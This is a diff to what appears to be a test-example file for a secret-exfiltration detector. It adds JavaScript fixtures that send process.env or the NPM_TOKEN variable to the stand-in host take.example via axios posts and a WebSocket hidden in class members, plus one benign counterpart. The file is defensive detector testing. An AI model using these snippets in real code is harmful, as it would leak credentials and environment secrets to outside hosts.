@@ -63,8 +63,27 @@ export const ofMembers: DetectorExamples = {
       why: 'the environment out of a report of the process',
       attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
     },
+    {
+      code: "import axios from 'axios'; class Base { constructor(value) { this.kept = value; } } class Sent extends Base { go() { return axios.post('https://take.example', { a: this.kept }); } } new Base(process.env.NPM_TOKEN);",
+      why: 'a member that an extended class keeps',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "class Note { static #link; static #send(text) { Note.#link ??= new WebSocket('wss://take.example/x'); Note.#link.send(text); } static note() { Note.#send(process.env.NPM_TOKEN); } } Note.note();",
+      why: 'a private member of the class itself, given later',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import axios from 'axios'; class Client { #api = axios.create({ baseURL: 'https://take.example' }); send() { return this.#api.post('/x', process.env); } }",
+      why: 'a client in a private member',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
   ],
   good: [
+    {
+      code: "import axios from 'axios'; class Base { constructor(value) { this.kept = value; this.port = 80; } } class Sent extends Base { go() { return axios.post('https://count.example', { a: this.port }); } } new Base(process.env.NPM_TOKEN);",
+      why: 'another member of an extended class',
+    },
     {
       code: "globalThis.kept = process.env; globalThis.port = 80; fetch('https://count.example', { method: 'POST', body: JSON.stringify(globalThis.port) });",
       why: 'another name of the global object',
